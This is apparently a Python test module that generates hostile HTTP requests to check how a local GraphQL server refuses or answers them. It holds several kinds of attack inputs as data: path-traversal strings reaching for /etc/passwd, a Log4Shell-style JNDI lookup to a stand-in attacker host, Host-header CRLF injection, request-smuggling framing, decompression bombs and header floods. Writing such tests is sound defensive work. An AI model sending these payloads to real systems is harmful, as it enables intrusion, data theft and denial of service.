"""Hostile HTTP requests, and what only looks like one."""

import gzip
import zlib
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

from tests.tools.hostile.attack import ANSWER, Expected, Hostile, Steps, hostile
from tests.tools.wire import CLOSE, SOCKET, asking, head, post

HELLO = asking("{ __typename }")
SIZE = str(len(HELLO))
JSON = {"Content-Type": "application/json"}
CHUNKED = head(**JSON | {"Transfer-Encoding": "chunked"})
CHUNK = b"%x\r\n%s\r\n" % (len(HELLO), HELLO)

NO_REQUESTS = (
    *(b"", b"null", b"1", b'"x"', b"[]", b"[null]", b"{}", b"{", b"NaN", bytes(10_000)),
    *(b"[" * 999_000, b'{"a":' * 190_000),
)
"""Bodies of no GraphQL request."""
ODD_BODIES = {
    "UTF-16": '{"query":"{__typename}"}'.encode("utf-16"),
    "UTF-8 with a mark before it": b'\xef\xbb\xbf{"query":"{__typename}"}',
    "a lone surrogate in JSON": b'{"query":"\\ud800"}',
    "a lone surrogate in a variable": b'{"query":"{__typename}","variables":{"a":"\\udfff"}}',
    "a batch of a thousand": b"[" + b",".join([b'{"query":"{__typename}"}'] * 1_000) + b"]",
    "a number of 100,000 digits": b'{"query":"{__typename}","variables":{"a":' + b"9" * 100_000 + b"}}",
    "variables 100,000 deep": b'{"query":"{__typename}","variables":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001,
    "50,000 variables": asking("{__typename}", **{f"a{n}": n for n in range(50_000)}),
    "the same member 10,000 times": b"{" + b'"query":"{__typename}",' * 10_000 + b'"query":"{__typename}"}',
}
UNCLEAR = {
    "a length and chunks": [f"Content-Length: {SIZE}", "Transfer-Encoding: chunked"],
    "a negative length": ["Content-Length: -1"],
    "a length that is no number": ["Content-Length: many"],
    "a length beyond all numbers": ["Content-Length: " + "9" * 40],
    "a header without a name": [": x"],
    "a header without a colon": ["nonsense"],
    "a header with a bare return in it": ["X-A: a\rX-B: b"],
}
"""Headers of which nobody can say where their request ends, or what they are; more: tests.process.test_framing."""
CHUNKS = {
    "of a negative size": b"-1\r\na\r\n0\r\n\r\n",
    "beyond all numbers": b"f" * 40 + b"\r\na",
    "whose size never ends": b"0" * 200_000,
    "again and again, and no JSON": b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n",
}
"""Chunked bodies that are wrong."""
METHODS = ("PUT", "OPTIONS", "TRACE", "CONNECT", "HEAD", "PRI", "PROPFIND", "get", "GETT", "\x00", "A" * 100_000)
PATHS = (
    *("*", "", "//", "graphql", "http://", "http://evil.example/graphql", "localhost:80", "/%", "/%zz", "/%00"),
    *("/%ff%fe", "/\xff", "/;/", "/#", "/?", "/a b", "/" + "a" * 10_000, "/" + "%41" * 3_000),
    *("/graphql/", "/graphql/../graphql", "/graphql?" + "a=1&" * 3_000, "/graphql?query=" + quote("{" * 3_000)),
    *("/graphql?query=%ff", "/graphql?query=%00", "/graphql?variables=%7B", "/graphql?query=a&query=b"),
)
DOTS = ("..", "%2e%2e", "%252e%252e", "..%00", "..;", "\xc0\xae\xc0\xae")
DOTTED = ["/assets/" + slash.join([dots] * 6 + ["etc", "passwd"]) for dots, slash in product(DOTS, ("/", "%2f", "\\"))]
NO_FILES = (
    *("/assets", "/assets/", "/assets//etc/passwd", "/assets/\x00", "/assets/%00", "/assets/C:/x", "/assets/con"),
    *("/assets/" + "a/" * 2_000, "/assets/" + "a" * 5_000, "/assets/./././", "/favicon.svg/.."),
)
HOSTS = (
    *(None, "", "evil.example", "a@localhost", "localhost/x", "local host", "localhost, evil.example"),
    *("localhost:999999", "localhost:x", "localhost%00", "[evil]", "a" * 1_000, "evil-localhost"),
    *("localhost.evil.example", "localhost\r\nHost: evil.example"),
)
"""What is not us."""
ORIGINS = (
    *("null", "http://evil.example", "http://localhost.evil.example", "http://evil.example@localhost", "", "localhost"),
    *("http://localhost:1", "file://", "x" * 10_000),
)
FLOODS = ((100, 10), (5_000, 10), (1, 10_000), (1, 5_000_000), (100_000, 1))
"""Of headers: how many, and how long."""
OTHERS = {
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(100),
    "SSH": b"SSH-2.0-OpenSSH_9.9\r\n",
    "SMB": b"\x00\x00\x00\x85\xffSMBr" + bytes(100),
    "zeros": bytes(1_000),
    "a proxy's greeting": b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a log's bait": head("GET", "/${jndi:ldap://evil.example/a}", User_Agent="${jndi:ldap://x}"),
    "bare line feeds": b"GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n",
    "an address of five megabytes": b"GET /" + b"a" * 5_000_000 + b" HTTP/1.1\r\n\r\n",
    "a method of five megabytes": b"G" * 5_000_000,
}
"""What other programs send."""
TYPES = (
    *("text/plain", "", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "a" * 5_000),
    *("application/json; charset=utf-7", "application/json\x00"),
)
ACCEPTED = ("x" * 10_000, "*/*;q=" + "9" * 1_000, ",".join(["a/b"] * 3_000), "text/event-stream" * 100, "\xff")
ENCODED = {
    "gzip": gzip.compress(bytes(10**7)),
    "deflate": zlib.compress(bytes(10**7)),
    **dict.fromkeys(("br", "zstd", "gzip, gzip", "identity, gzip"), b"x"),
}


def requests(header_bytes: int, message_bytes: int) -> Iterator[Hostile]:
    """All of them, for a server that takes heads and bodies of so many bytes."""
    beginning = head(**JSON).removesuffix(b"\r\n")
    refused = {
        **{f"body {number}: {body[:40]!r}": post(body) for number, body in enumerate(NO_REQUESTS)},
        "a body one byte too long": post(b" " * (message_bytes + 1)),
        "a body three times too long": post(b" " * (3 * message_bytes)),
        **{name: beginning + "\r\n".join([*it, "", ""]).encode("latin-1") + HELLO for name, it in UNCLEAR.items()},
        **{f"a chunk {name}": CHUNKED + body for name, body in CHUNKS.items()},
        **{f"a body in {encoding}": post(body, Content_Encoding=encoding) for encoding, body in ENCODED.items()},
        **{f"a body of the type {type[:40]!r}": post(HELLO, type) for type in TYPES},
        **{f"the file {path[:40]!r}": head("GET", path) for path in (*DOTTED, *NO_FILES)},
        **{f"the host {host and host[:30]!r}": head("GET", "/graphql?query={a}", host=host) for host in HOSTS},
        **{f"the origin {origin[:30]!r}": post(HELLO, Origin=origin) for origin in ORIGINS},
    }
    odd = {
        **{f"the body {name}": post(body) for name, body in ODD_BODIES.items()},
        **{f"the method {method[:10]!r}": head(method) for method in METHODS},
        **{f"the path {path[:30]!r}": head("GET", path) for path in PATHS},
        **OTHERS,
        **{f"the accept {accept[:20]!r} of {len(accept)}": post(HELLO, Accept=accept) for accept in ACCEPTED},
        "trailers without end": CHUNKED + CHUNK + b"0\r\n" + b"X-A: 1\r\n" * 400_000,
        "a trailer of an origin": CHUNKED + CHUNK + b"0\r\nOrigin: http://evil.example\r\n\r\n",
        "ranges of a file": head("GET", "/", Range="bytes=" + ",".join(f"{n}-{n}" for n in range(1_500))),
        "a range that is none": head("GET", "/", Range="bytes=9-1"),
    }
    # A refusal closes the connection, whether earlier requests on it are answered or not.
    keeping = head("GET", "/healthz", Connection="keep-alive")
    pipelined = {
        "a thousand requests at once": keeping * 1_000 + head("GET", "/healthz"),
        "a request and then nonsense": keeping + b"\x00nonsense\r\n\r\n",
    }
    for expected, family in ((Expected.REFUSED, refused), (Expected.ANSWERED, odd), (Expected.ANYTHING, pipelined)):
        yield from hostile("request", expected, {name: [text] for name, text in family.items()})
    for many, length in FLOODS:
        flood = b"".join(b"X-%d: %s\r\n" % (n, b"a" * length) for n in range(many))
        expected = Expected.ANSWERED if len(flood) < header_bytes - 1_000 else Expected.REFUSED
        for name, request in {"request": post(HELLO), "handshake": head("GET", **SOCKET)}.items():
            flooded: Steps = [request.replace(b"\r\n", b"\r\n" + flood, 1), ANSWER, CLOSE]
            yield Hostile(f"{name}: {many} headers of {length} letters", flooded, expected)
